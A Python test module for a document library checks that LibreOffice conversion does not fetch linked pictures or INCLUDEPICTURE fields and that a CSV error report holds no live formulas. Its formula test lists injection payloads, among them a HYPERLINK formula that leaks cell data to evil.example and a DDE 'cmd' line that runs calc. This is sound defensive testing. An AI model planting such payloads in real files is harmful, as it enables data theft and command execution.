"""LibreOffice against hostile files (slow): converting to PDF sends no request to a
linked resource, and the error report opened in LibreOffice holds no formula.

A local HTTP server on 127.0.0.1 stands in for the network and counts the requests it
gets; each test first shows, without the library's protection, that LibreOffice would
have made the request (or read the formula), so that the test can fail.
"""

from __future__ import annotations

import http.server
import io
import re
import shutil
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from docx.shared import Mm
from hostile_files import HostileCtx, hostile_kind, png

import nastavnik_docs as nd
from nastavnik_docs.batch import Failure
from nastavnik_docs.batch._report import write_error_report
from nastavnik_docs.engine.check import check_template
from nastavnik_docs.engine.pdf import convert_to_pdf, find_soffice
from nastavnik_docs.errors import TemplateError

pytestmark = [pytest.mark.slow, pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")]


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    handler = type("Counter", (_Counter,), {"hits": []})
    httpd = http.server.HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_port}", handler.hits
    finally:
        httpd.shutdown()


def _linked(url: str, out: Path, how: str) -> Path:
    """A DOCX whose picture is inserted as a link to ``url`` (or an INCLUDEPICTURE field)."""
    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph("Текст")
    document.add_picture(io.BytesIO(png()), width=Mm(20))
    document.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels" and how == "link":
                data = data.replace(b"</Relationships>", (
                    f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/image" Target="{url}/pic.png" TargetMode="External"/></Relationships>').encode())
            if item.filename == "word/document.xml":
                if how == "link":
                    data = re.sub(rb'r:embed="rId\d+"', b'r:link="rIdX"', data)
                else:
                    field = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
                             f'"preserve"> INCLUDEPICTURE "{url}/field.png" \\d </w:instrText></w:r><w:r>'
                             f'<w:fldChar w:fldCharType="end"/></w:r></w:p>').encode()
                    data = data.replace(b"<w:sectPr", field + b"<w:sectPr", 1)
            target.writestr(item, data)
    return out


def _soffice_raw(path: Path, tmp_path: Path) -> None:
    """LibreOffice converting ``path`` directly, as the library did before."""
    subprocess.run([find_soffice(), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'p').as_uri()}",
                    "--convert-to", "pdf", "--outdir", str(tmp_path / "raw"), str(path)],
                   capture_output=True, timeout=180, check=False)


@pytest.mark.hostile("network")
def test_a_linked_picture_is_not_fetched_when_converting_to_pdf(tmp_path, server, tally):
    url, hits = server
    document = _linked(url, tmp_path / "связанный.docx", "link")
    _soffice_raw(document, tmp_path)
    assert hits, "control: LibreOffice fetches a linked picture by itself"
    hits.clear()
    (pdf,) = convert_to_pdf([document])
    assert pdf.is_file() and pdf.stat().st_size > 0
    assert hits == [], f"LibreOffice reached the network: {hits}"
    tally.add("network", "ни одного запроса")


@pytest.mark.hostile("network")
def test_a_template_with_a_linked_picture_is_refused_and_reported(tmp_path, server, tally):
    url, hits = server
    folder = tmp_path / "tpl"
    folder.mkdir()
    linked = _linked(url, tmp_path / "x.docx", "link").read_bytes()
    (folder / "hostile.docx").write_bytes(linked)
    with pytest.raises(TemplateError, match="внешний ресурс"):
        nd.render(hostile_kind(), HostileCtx(), tmp_path / "o.docx", templates=folder, pdf=True)
    issues = check_template(folder / "hostile.docx", HostileCtx, kind="x").issues
    assert [i.kind for i in issues] == ["external"] and url in issues[0].text
    assert hits == []
    tally.add("network", "шаблон отклонён, проверка сообщает")


def _cells(xlsx: Path) -> list[openpyxl.cell.cell.Cell]:
    return [cell for row in openpyxl.load_workbook(xlsx).active.iter_rows() for cell in row]


def _open_in_libreoffice(csv_path: Path, tmp_path: Path) -> Path:
    """The CSV as LibreOffice reads it (formulas evaluated, as it does by default)."""
    out = tmp_path / "lo"
    subprocess.run([find_soffice(), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'p').as_uri()}",
                    "--infilter=CSV:59,34,76,1,,1049,false,false,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)],
                   capture_output=True, timeout=180, check=True)
    return out / f"{csv_path.stem}.xlsx"


@pytest.mark.hostile("formulas")
def test_the_error_report_opened_in_libreoffice_has_no_formula(tmp_path, tally):
    name = '=HYPERLINK("http://evil.example/?leak="&C3,"…")'
    payloads = [name, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
    control = tmp_path / "control.csv"
    control.write_text("№;Участник;Ошибка\r\n1;" + name.replace('"', '""').join('""') + ";x\r\n",
                       encoding="utf-8-sig")
    assert any(c.data_type == "f" for c in _cells(_open_in_libreoffice(control, tmp_path))), \
        "control: LibreOffice reads a formula from a plain CSV"
    report = write_error_report(tmp_path, [Failure(i + 1, p, p) for i, p in enumerate(payloads)])
    cells = _cells(_open_in_libreoffice(report, tmp_path))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + name in texts  # shown as the text it is
    tally.add("formulas", "в LibreOffice — текст, не формула")
